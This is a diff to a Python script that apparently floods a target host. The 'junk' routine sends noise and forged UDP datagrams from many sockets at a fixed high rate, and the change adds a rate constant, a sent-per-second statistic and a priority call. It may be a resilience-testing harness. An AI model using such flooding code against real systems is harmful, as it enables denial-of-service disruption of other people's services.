@@ -28,6 +28,7 @@ NETWORKS: Final = 20
 LARGE_HEAD_BYTES: Final = 1 << 20
 CONNECTIONS: Final = 1_000
 DATAGRAMS_PER_S: Final = 14_000
+CATCHES_UP: Final = 200
 _SHORT_REST_S: Final = 0.002
 
 
@@ -223,7 +224,7 @@ async def junk(attack: Attack) -> None:
     try:
         while attack.goes_on:
             due = int((time.monotonic() - began) * DATAGRAMS_PER_S) - sent
-            for _ in range(min(due, 200)):  # held up by the machine, it does not catch up all at once
+            for _ in range(min(due, CATCHES_UP)):  # held up by the machine, it does not catch up all at once
                 with contextlib.suppress(OSError):
                     sockets[sent % NETWORKS].sendto((noise + forged)[sent % 256], (attack.host, attack.udp_port))
                 sent += 1
@@ -232,6 +233,7 @@ async def junk(attack: Attack) -> None:
         for one in sockets:
             one.close()
     attack.done["datagrams"] = sent
+    attack.done["datagrams a second"] = round(sent / (time.monotonic() - began))
 
 
 KINDS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
@@ -287,7 +289,7 @@ async def _done(process: asyncio.subprocess.Process) -> Counter[str]:
 def main(words: list[str]) -> None:
     kind, url, udp_port, seconds, nice = words
     os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))  # its starter may be before everybody else
-    os.nice(int(nice))
+    os.setpriority(os.PRIO_PROCESS, 0, int(nice))
     soft = CONNECTIONS * 2
     with contextlib.suppress(ImportError, ValueError, OSError):
         import resource
